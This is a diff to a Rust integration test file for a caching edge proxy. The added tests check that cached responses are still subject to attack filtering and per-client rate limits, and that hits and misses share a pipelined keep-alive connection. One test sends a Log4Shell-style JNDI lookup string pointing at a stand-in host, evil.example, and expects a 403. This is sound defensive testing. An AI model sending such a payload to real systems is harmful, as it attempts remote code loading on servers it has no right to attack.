@@ -14,6 +14,19 @@ async fn cached_edge(
     dir: &TestDir,
     rate_limits: bool,
 ) -> (TestEdge, Naming, async_nats::jetstream::Context) {
+    if rate_limits {
+        cached_edge_with(core, dir, &[]).await
+    } else {
+        cached_edge_with(core, dir, &[("MERIDIAN_EDGE_RATE_LIMITS", "off")]).await
+    }
+}
+
+/// [`cached_edge`], with more environment.
+async fn cached_edge_with(
+    core: &EchoCore,
+    dir: &TestDir,
+    env: &[(&'static str, &str)],
+) -> (TestEdge, Naming, async_nats::jetstream::Context) {
     let nats_url =
         std::env::var("NATS_URL").unwrap_or_else(|_| "nats://127.0.0.1:14222".to_owned());
     let prefix = format!("e{}", &uuid::Uuid::new_v4().simple().to_string()[..12]);
@@ -29,8 +42,8 @@ async fn cached_edge(
         .with_env("MERIDIAN_EDGE_CACHE", "on")
         .with_env("NATS_URL", &nats_url)
         .with_env("MERIDIAN_NATS_PREFIX", &prefix);
-    if !rate_limits {
-        config = config.with_env("MERIDIAN_EDGE_RATE_LIMITS", "off");
+    for (name, value) in env {
+        config = config.with_env(name, value);
     }
     let edge = TestEdge::start(config, dir.path()).await;
     let deadline = Instant::now() + Duration::from_secs(10);
@@ -324,4 +337,102 @@ async fn answers_that_vary_are_kept_per_variant() {
             ("fr", "MISS".to_owned(), 3),
         ]
     );
+}
+
+/// Cached answers come from the front door (ahead of Pingora's request path) only when every
+/// phase would have let the request through: an attack in a header, or a client over its
+/// rate, is refused as on any other route, and the cached answer is not given.
+#[tokio::test]
+async fn cached_answers_are_refused_to_attacks_and_to_clients_over_their_rate() {
+    let core = EchoCore::start_cacheable("core").await;
+    let dir = TestDir::new();
+    let (edge, _, _) = cached_edge_with(&core, &dir, &[("MERIDIAN_EDGE_RATE_CLIENT", "1:5")]).await;
+    let get = || edge.client.get(edge.url("/products/7"));
+    let first = get().send().await.unwrap();
+    assert_eq!(cache_state(&first), "MISS");
+    let hit = get().send().await.unwrap();
+    assert_eq!(cache_state(&hit), "HIT");
+    assert!(hit.headers().contains_key("ratelimit-remaining"));
+
+    let attack = get()
+        .header("x-api-version", "${jndi:ldap://evil.example/a}")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(attack.status(), 403, "an attack got a cached answer");
+    assert!(!attack.headers().contains_key("x-cache"));
+
+    // A burst of 5: the rest of this second's requests are refused, cached or not.
+    let mut statuses = Vec::new();
+    for _ in 0..6 {
+        statuses.push(get().send().await.unwrap().status().as_u16());
+    }
+    assert!(statuses.contains(&429), "{statuses:?}");
+    assert_eq!(core.hits(), 1);
+}
+
+/// One keep-alive connection whose requests alternate between the front door (hits) and
+/// Pingora (a miss, a request with a cookie), some of them pipelined in one write.
+#[tokio::test]
+async fn hits_and_other_requests_share_a_keep_alive_connection() {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+    let core = EchoCore::start_cacheable("core").await;
+    let dir = TestDir::new();
+    let (edge, _, _) = cached_edge(&core, &dir, false).await;
+    let mut connection = tokio::net::TcpStream::connect(edge.http).await.unwrap();
+    let get = |path: &str, extra: &str| {
+        format!("GET {path} HTTP/1.1\r\nHost: shop.example\r\n{extra}\r\n")
+    };
+    let mut exchange = async |requests: String, responses: usize| -> Vec<String> {
+        connection.write_all(requests.as_bytes()).await.unwrap();
+        let mut received = Vec::new();
+        let mut buffer = [0u8; 4096];
+        while parse_responses(&received).len() < responses {
+            let n = tokio::time::timeout(Duration::from_secs(5), connection.read(&mut buffer))
+                .await
+                .expect("a response in time")
+                .unwrap();
+            assert!(n > 0, "the edge closed the connection");
+            received.extend_from_slice(&buffer[..n]);
+        }
+        parse_responses(&received)
+    };
+    let miss = exchange(get("/products/7", ""), 1).await;
+    assert_eq!(miss, ["MISS"]);
+    let pipelined = [
+        get("/products/7", ""),
+        get("/products/7", "Cookie: s=1\r\n"),
+        get("/products/7", ""),
+    ]
+    .concat();
+    assert_eq!(exchange(pipelined, 3).await, ["HIT", "-", "HIT"]);
+    let again = [get("/products/8", ""), get("/products/7", "")].concat();
+    assert_eq!(exchange(again, 2).await, ["MISS", "HIT"]);
+    assert_eq!(core.hits(), 3, "the cookie's request and two misses");
+}
+
+/// The `X-Cache` of each complete response in `bytes` (`-` for none).
+fn parse_responses(mut bytes: &[u8]) -> Vec<String> {
+    let mut states = Vec::new();
+    loop {
+        let mut headers = [httparse::EMPTY_HEADER; 32];
+        let mut response = httparse::Response::new(&mut headers);
+        let Ok(httparse::Status::Complete(head)) = response.parse(bytes) else {
+            return states;
+        };
+        let header = |name: &str| {
+            response
+                .headers
+                .iter()
+                .find(|h| h.name.eq_ignore_ascii_case(name))
+                .map(|h| String::from_utf8_lossy(h.value).into_owned())
+        };
+        let length: usize = header("content-length").unwrap().parse().unwrap();
+        if bytes.len() < head + length {
+            return states;
+        }
+        states.push(header("x-cache").unwrap_or_else(|| "-".to_owned()));
+        bytes = &bytes[head + length..];
+    }
 }
